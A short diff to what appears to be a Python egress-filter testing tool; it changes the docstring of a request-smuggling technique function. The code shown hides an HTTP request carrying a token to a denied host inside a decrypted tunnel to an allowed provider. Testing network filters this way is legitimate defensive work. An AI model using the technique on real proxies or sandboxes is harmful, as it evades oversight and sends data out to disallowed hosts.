@@ -265,7 +265,7 @@ def not_http_at_all(attack: Attack) -> Iterator[Try]:
 
 @technique(INSPECTED)
 def request_smuggling_when_decrypted(attack: Attack) -> Iterator[Try]:
-    """Hide a request in the decrypted tunnel to a provider: to another host, or in a form without a record."""
+    """Hide a request in the decrypted tunnel to a provider: to another host, or in a form that is not recorded."""
     hidden = f"GET /v1/{attack.token} HTTP/1.1\r\nHost: {attack.denied}\r\n\r\n".encode()
     for name, data in smuggled(provider(attack), hidden):
         request = data.replace(b"{target}", f"/v1/models?{attack.token}".encode())
